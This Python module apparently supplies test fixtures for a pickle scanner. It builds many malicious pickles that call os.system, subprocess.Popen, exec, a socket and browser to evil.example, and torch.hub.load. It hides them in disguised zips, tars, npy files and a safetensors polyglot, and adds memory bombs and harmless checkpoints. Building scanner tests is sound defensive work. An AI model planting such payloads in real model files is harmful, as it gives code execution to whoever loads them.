"""Pickles that do harm, made by hand and by Python itself, and harmless ones; each would touch the canary."""

import gzip
import io
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections import Counter, OrderedDict, defaultdict
from collections.abc import Callable, Mapping
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path, PurePosixPath
from typing import Any
from uuid import UUID

import numpy as np


class Calls:
    """Pickles to a call of anything, with any arguments."""

    def __init__(self, function: object, *arguments: object) -> None:
        self.parts: Any = function, arguments

    def __reduce__(self) -> Any:
        return self.parts


def named(module: str, name: str, *arguments: str, protocol: int = 2) -> bytes:
    """Return a pickle that calls `module.name` with texts, by GLOBAL and REDUCE."""
    texts = b"".join(b"X" + struct.pack("<L", len(text.encode())) + text.encode() for text in arguments)
    return bytes([0x80, protocol]) + f"c{module}\n{name}\n(".encode() + texts + b"tR."


def text(value: str) -> bytes:
    """Return the opcode that pushes a short text."""
    return b"\x8c" + bytes([len(value.encode())]) + value.encode()


def zipped(members: Mapping[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    found = io.BytesIO()
    with zipfile.ZipFile(found, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return found.getvalue()


def encrypted(data: bytes) -> bytes:
    """Set the encryption flag of every member, in both headers; nothing is encrypted."""
    found = bytearray(data)
    for magic, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = found.find(magic)
        while at >= 0:
            found[at + place] |= 1
            at = found.find(magic, at + 1)
    return bytes(found)


def wrong_checksum(data: bytes) -> bytes:
    found = bytearray(data)
    for magic, place in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        at = found.find(magic)
        found[at + place] ^= 0xFF
    return bytes(found)


def renamed_inside(data: bytes, old: bytes, new: bytes) -> bytes:
    """Give a member another name in its own header than in the directory."""
    assert len(old) == len(new)
    return data.replace(old, new, 1)


def tarred(members: Mapping[str, bytes]) -> bytes:
    found = io.BytesIO()
    with tarfile.open(fileobj=found, mode="w") as archive:
        for name, data in members.items():
            row = tarfile.TarInfo(name)
            row.size = len(data)
            archive.addfile(row, io.BytesIO(data))
    return found.getvalue()


def saved(array: Any) -> bytes:
    found = io.BytesIO()
    np.save(found, array, allow_pickle=True)
    return found.getvalue()


def objects(*values: object) -> Any:
    found = np.empty(len(values), dtype=object)
    found[:] = values
    return found


def safetensors_and_pickle(payload: bytes) -> bytes:
    """Return a valid safetensors file that unpickles as well: texts swallow its header, the tensor is the payload."""
    # 0x54 is BINSTRING, whose length is the next four bytes: 0x20, so it ends inside the header's text.
    length = 0x54 | (0x20 << 8)
    row = f'"}},"t":{{"dtype":"U8","shape":[{len(payload)}],"data_offsets":[0,{len(payload)}]}}}}'.encode()
    header = bytearray(b'{"__metadata__":{"a":"'.ljust(length - len(row), b"-") + row)
    at, end = 5 + 0x20 - 8, length
    while end - at >= 2:  # SHORT_BINSTRING after SHORT_BINSTRING, up to the end of the header
        step = min(127, end - at - 2)
        step -= 2 if end - at - 2 - step == 1 else 0
        header[at : at + 2] = b"U" + bytes([step])
        at += 2 + step
    return struct.pack("<Q", length) + bytes(header) + payload


def torch_pickle(storage: str = "FloatStorage") -> bytes:
    """Return what torch.save writes as data.pkl for {"weight": tensor}, without torch."""
    return (
        b"\x80\x02}q\x00X\x06\x00\x00\x00weightq\x01ctorch._utils\n_rebuild_tensor_v2\nq\x02((X\x07\x00\x00\x00storage"
        b"q\x03ctorch\n" + storage.encode() + b"\nq\x04X\x01\x00\x00\x000q\x05X\x03\x00\x00\x00cpuq\x06K\x04tq\x07Q"
        b"K\x00K\x02K\x02\x86q\x08K\x02K\x01\x86q\t\x89ccollections\nOrderedDict\nq\n)Rq\x0btq\x0cRq\rs."
    )


def torch_legacy() -> bytes:
    """Return what torch.save wrote before 1.6: five pickles, then raw numbers."""
    before = (pickle.dumps(part, 2) for part in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}))
    numbers = struct.pack("<q4f", 4, 0.1, 0.2, 0.3, 0.4)
    return b"".join(before) + torch_pickle() + pickle.dumps(["0"], 2) + numbers


def harmful(canary: Path) -> dict[str, tuple[str, bytes]]:
    """Return attacks by name: the file's name and its bytes. Loading any of them would touch the canary."""
    command = f"touch {canary}"
    code = f"open({str(canary)!r}, 'w')"
    system = named("os", "system", command)
    plain = f"cos\nsystem\n(S'{command}'\ntR.".encode()
    attr = named("builtins", "getattr", "x", "y")
    memoed = (
        b"\x80\x04"
        + text("os")
        + b"\x94"
        + text("system")
        + b"\x940h\x01"
        + b"0h\x00h\x01\x93"
        + text(command)
        + b"\x85R."
    )
    return {
        "os.system": ("a.pkl", system),
        "posix.system": ("a.pkl", named("posix", "system", command)),
        "nt.system": ("a.pkl", named("nt", "system", command)),
        "protocol 0": ("a.pkl", plain),
        "protocol 0 under .bin": ("pytorch_model.bin", plain),
        "protocol 4": ("a.pkl", pickle.dumps(Calls(__import__("os").system, command), 4)),
        "protocol 5": ("a.pkl", pickle.dumps(Calls(__import__("os").system, command), 5)),
        "builtins.exec": ("a.pkl", named("builtins", "exec", code)),
        "builtins.eval": ("a.pkl", named("builtins", "eval", code)),
        "builtins of Python 2": ("a.pkl", named("__builtin__", "eval", code)),
        "builtins.compile": ("a.pkl", named("builtins", "compile", code, "a", "exec")),
        "builtins.__import__": ("a.pkl", named("builtins", "__import__", "antigravity")),
        "builtins.getattr chain": ("a.pkl", attr),
        "builtins.open": ("a.pkl", named("builtins", "open", str(canary), "w")),
        "subprocess.Popen": ("a.pkl", named("subprocess", "Popen", command)),
        "runpy": ("a.pkl", named("runpy", "run_path", str(canary))),
        "operator.attrgetter": ("a.pkl", named("operator", "attrgetter", "system")),
        "functools.partial": ("a.pkl", named("functools", "partial", "system")),
        "types.FunctionType": ("a.pkl", named("types", "FunctionType", "x")),
        "timeit": ("a.pkl", named("timeit", "timeit", code)),
        "pdb.run": ("a.pkl", named("pdb", "run", code)),
        "pip.main": ("a.pkl", named("pip", "main", "install")),
        "socket": ("a.pkl", named("socket", "create_connection", "evil.example")),
        "webbrowser": ("a.pkl", named("webbrowser", "open", "https://evil.example")),
        "torch.hub.load": ("a.pt", named("torch.hub", "load", "evil/repository", "model")),
        "numpy.f2py": ("a.pkl", named("numpy.f2py.crackfortran", "getlincoef", code)),
        "an unknown package": ("a.pkl", named("acme_models.loaders", "restore", "x")),
        "a dotted name through something allowed": (
            "a.pkl",
            b"\x80\x04" + text("collections") + text("deque.__init__.__globals__") + b"\x93.",
        ),
        "INST": ("a.pkl", f"(S'{command}'\nios\nsystem\n.".encode()),
        "OBJ": ("a.pkl", f"\x80(cos\nsystem\nS'{command}'\no.".encode("latin-1").replace(b"\x80", b"\x80\x02")),
        "NEWOBJ": ("a.pkl", b"\x80\x02csubprocess\nPopen\n" + f"(S'{command}'\nt\x81.".encode()),
        "NEWOBJ_EX": ("a.pkl", b"\x80\x04csubprocess\nPopen\n" + f"(S'{command}'\nt}}\x92.".encode()),
        "BUILD of something unknown": ("a.pkl", b"\x80\x02cacme\nModel\n)\x81}S'a'\nS'b'\nsb."),
        "STACK_GLOBAL from the memo": ("a.pkl", memoed),
        "nested pickle.loads": (
            "a.pkl",
            b"\x80\x03cpickle\nloads\n(B" + struct.pack("<L", len(system)) + system + b"tR.",
        ),
        "a second stream": ("a.pkl", pickle.dumps({"a": 1}) + system),
        "a third stream": ("a.pkl", pickle.dumps(1) + pickle.dumps(2) + plain),
        "broken after the call": ("a.pkl", system[:-1]),
        "broken by an unknown opcode": ("a.pkl", system[:-1] + b"\xff\xff"),
        "a protocol that is none": ("a.pkl", b"\x80\x09" + system[2:]),
        "extension registry": ("a.pkl", b"\x80\x02\x82\x05(S'x'\ntR."),
        "extension registry, then a call": ("a.pkl", b"\x80\x02\x84\x00\x10\x00\x000" + system[2:]),
        "persistent id": ("a.pkl", b"\x80\x02X\x04\x00\x00\x00evilQ."),
        "under .safetensors": ("model.safetensors", system),
        "under .json": ("config.json", plain),
        "under .txt": ("README.txt", plain),
        "under .npy": ("a.npy", system),
        "without a suffix": ("model", plain),
        "in a zip": ("model.pt", zipped({"archive/data.pkl": system})),
        "in a zip with another suffix": ("model.pt", zipped({"archive/data.txt": plain})),
        "in a deflated zip": ("model.pt", zipped({"archive/data.pkl": system}, zipfile.ZIP_DEFLATED)),
        "in a zip marked as encrypted": ("model.pt", encrypted(zipped({"archive/data.pkl": system}))),
        "in a zip with a wrong checksum": ("model.pt", wrong_checksum(zipped({"archive/data.pkl": system}))),
        "in a zip with two names": (
            "model.pt",
            renamed_inside(zipped({"archive/data.pkl": system}), b"archive/data.pkl", b"archive/data.txt"),
        ),
        "in a zip behind a picture": ("model.png", b"\x89PNG\r\n\x1a\n" + zipped({"data.pkl": system})),
        "in a zip without a directory": ("model.pt", zipped({"archive/data.pkl": system})[:-40]),
        "in a zip in a zip": ("model.pt", zipped({"inner.zip": zipped({"data.pkl": system})})),
        "in a tar": ("model.pt", tarred({"pickle": system})),
        "in a tar.gz": ("model.tar.gz", gzip.compress(tarred({"pickle": system}))),
        "gzipped": ("a.joblib", gzip.compress(system)),
        "zlib": ("a.joblib", zlib.compress(system)),
        "bzip2": ("a.joblib", __import__("bz2").compress(system)),
        "npy of objects": ("a.npy", saved(objects(Calls(__import__("os").system, command)))),
        "npz of objects": ("a.npz", zipped({"a.npy": saved(objects(Calls(__import__("os").system, command)))})),
        "deflated npz of objects": (
            "a.npz",
            zipped({"a.npy": saved(objects(Calls(__import__("os").system, command)))}, zipfile.ZIP_DEFLATED),
        ),
        "torch with a payload": ("model.pt", zipped({"m/data.pkl": torch_pickle()[:-1] + b"0" + system[2:]})),
        "memory: a text of 100 GB": ("a.pkl", b"\x80\x04\x8d" + struct.pack("<Q", 10**11) + b"abc."),
        "memory: bytes of 100 GB": ("a.pkl", b"\x80\x04\x8e" + struct.pack("<Q", 10**11) + b"abc."),
        "memory: a number that allocates": ("a.pkl", b"\x80\x02cbuiltins\nbytearray\n(\x8a\x05\x00\x00\x00\x00\x10tR."),
        "memory: millions of sets": ("a.pkl", b"\x80\x04" + b"\x8f" * 2_000_000 + b"."),
        "deep recursion": ("a.pkl", b"\x80\x02}" + b")" + b"\x85" * 300_000 + b"Ns."),
        "many streams": ("a.pkl", b"N." * 1000 + system),
        "safetensors and a pickle": ("model.safetensors", safetensors_and_pickle(plain)),
    }


def harmless() -> dict[str, tuple[str, bytes]]:
    """Return files of healthy checkpoints: each without a finding."""
    values: dict[str, object] = {
        "numbers": {"a": [1, 2.5, None, True], "b": (1, "x", b"y"), "c": {1, 2}, "d": frozenset([3]), "e": 2**100},
        "collections": [OrderedDict(a=1), defaultdict(list, {1: [2]}), Counter("abc")],
        "values": [datetime.now(UTC), Decimal("1.5"), UUID(int=7), PurePosixPath("a/b"), bytearray(b"x"), 1 + 2j],
        "arrays": {"a": np.arange(1000.0), "b": np.float32(1.5), "c": np.array(["x", "y"])},
        "array of objects": objects(1, "two", None),
    }
    found = {f"{name}, protocol {p}": ("a.pkl", pickle.dumps(v, p)) for name, v in values.items() for p in (0, 2, 4, 5)}
    return {
        **found,
        "torch": (
            "model.pt",
            zipped({"m/data.pkl": torch_pickle(), "m/data/0": struct.pack("<4f", 1, 2, 3, 4), "m/version": b"3\n"}),
        ),
        "torch under .bin": (
            "pytorch_model.bin",
            zipped({"m/data.pkl": torch_pickle("BFloat16Storage"), "m/data/0": b"V<\n\x96cos\n"}),
        ),
        "torch before 1.6": ("model.pth", torch_legacy()),
        "npy": ("a.npy", saved(np.arange(10.0))),
        "npy of objects": ("a.npy", saved(objects("a", 1))),
        "npz": ("a.npz", zipped({"a.npy": saved(np.arange(10.0)), "b.npy": saved(np.zeros(3))}, zipfile.ZIP_DEFLATED)),
        "words that look like opcodes": ("labels.txt", b"cat\ndog\nbird\nice\ncream\n.\n"),
        "prose": ("README.md", b"Please read me. I am harmless.\n"),
        "json": ("config.json", b'{"model_type": "bert", "hidden_size": 8}'),
    }


Maker = Callable[[Path], dict[str, tuple[str, bytes]]]
